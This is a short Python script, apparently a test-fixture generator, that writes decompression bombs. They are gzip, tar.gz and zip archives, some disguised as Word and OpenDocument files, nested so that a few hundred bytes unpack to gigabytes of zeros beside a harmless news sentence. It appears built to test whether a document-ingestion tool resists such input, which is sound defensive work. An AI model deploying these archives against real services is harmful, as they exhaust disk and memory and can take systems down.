#!/usr/bin/python3
"""Writes the packed files that unpack to far more than their size: make_bombs.py DIR. They are
packed twice or three times, so that a gigabyte is some hundred bytes; that is part of the attack."""
import gzip, io, sys, tarfile, zipfile
from pathlib import Path

ARTICLE = "The ferry left the harbour of the town on Monday with all of its crew, the owner said."


class Zeros:
    """So many zero bytes, as a file."""

    def __init__(self, size):
        self.size = size

    def read(self, size):
        got = min(size, self.size)
        self.size -= got
        return bytes(got)


def packed(data):
    return gzip.compress(data, mtime=0)


def stream_of(body):
    """Zeros of that number, bytes, or text, and how many bytes they are."""
    if isinstance(body, int):
        return Zeros(body), body
    data = body.encode() if isinstance(body, str) else body
    return io.BytesIO(data), len(data)


def tar_gz(entries):
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, filename="") as stream:
        with tarfile.open(fileobj=stream, mode="w|") as archive:
            for name, body in entries:
                entry = tarfile.TarInfo(name)
                data, entry.size = stream_of(body)
                archive.addfile(entry, data)
    return out.getvalue()


def zipped(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w") as stream:
                data, _ = stream_of(body)
                while part := data.read(1 << 20):
                    stream.write(part)
    return out.getvalue()


def main(folder):
    inner = tar_gz([(".zeros", 600_000_000), ("a.txt", ARTICLE)])
    document = (f'<w:document xmlns:w="urn:w"><w:body><w:p><w:r><w:t>{ARTICLE}</w:t></w:r></w:p>'
                "</w:body></w:document>")
    files = {
        "passed_over.tar.gz": packed(packed(tar_gz([("news/.zeros", 3_000_000_000),
                                                    ("news/a.txt", ARTICLE)]))),
        "bombs.tar.gz": packed(tar_gz([(f"{n}.tar.gz", inner) for n in "abcd"])),
        "picture.docx.gz": packed(packed(zipped([("word/media/a.bin", 2_000_000_000),
                                                 ("word/document.xml", document)]))),
        "text.odt.gz": packed(packed(zipped([("content.xml", 200_000_000)]))),
    }
    for name, data in files.items():
        (Path(folder) / name).write_bytes(data)


main(sys.argv[1])
